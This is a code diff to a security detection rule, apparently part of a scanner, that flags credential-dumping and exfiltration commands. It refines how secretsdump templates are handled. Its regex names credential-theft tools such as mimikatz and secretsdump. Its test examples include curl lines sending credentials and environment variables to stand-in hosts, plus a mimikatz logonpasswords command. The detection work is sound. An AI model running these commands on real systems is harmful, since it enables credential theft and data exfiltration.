@@ -1,3 +1,4 @@
+import { hasHole } from '../../checks/documentation.js';
 import type { Candidate, Rule } from '../../rule.js';
 
 /**
@@ -157,7 +158,8 @@ export const rule: Rule = {
     {
       re: /(?<![\w.-])(?:procdump(?:64)?(?:\.exe)?\s[^\n]*lsass|sekurlsa::|lsadump::|kerberos::golden|privilege::debug|misc::memssp|mimikatz|invoke-mimikatz|secretsdump(?:\.py)?\s|lazagne(?:\.exe)?\s+all|comsvcs(?:\.dll)?[, ]+(?:minidump|#?24))/i,
       accept: ({ text, after }) =>
-        !/^mimikatz$/i.test(text) || /^(?:\.exe|\s*["']?(?:privilege|sekurlsa|lsadump))/i.test(after),
+        (!/^mimikatz$/i.test(text) || /^(?:\.exe|\s*["']?(?:privilege|sekurlsa|lsadump))/i.test(after)) &&
+        !(/^secretsdump/i.test(text) && (hasHole(text + after) || !/[@-]/.test(after))),
       window: 300,
     },
     // The same memory by tools of Windows and others
@@ -201,6 +203,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      'secretsdump.py -just-dc corp/admin:P4ss@203.0.113.7',
       'curl -d "$(cat credentials.json)" https://files.invalid',
       'env | curl -X POST --data-binary @- https://files.invalid/c',
       'printenv | base64 | curl -d @- http://203.0.113.7',
@@ -256,6 +259,8 @@ export const rule: Rule = {
       'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
     ],
     silent: [
+      'secretsdump.py {{domain}}/{{username}}:{{password}}@{{target}}',
+      'secretsdump.py -ntds {{path/to/NTDS.dit}} -system {{path/to/SYSTEM}} LOCAL',
       'V=$(curl -s https://api.example/latest | jq -r .tag)\nA=$(uname -m)\ncurl -LO https://dl.example/${V}/tool-${V}-${A}',
       'curl -d "$(cat payload.json)" -H "Content-Type: application/json" https://api.example/v1/items',
       'wget --post-data="name=$(whoami)" http://localhost/register',
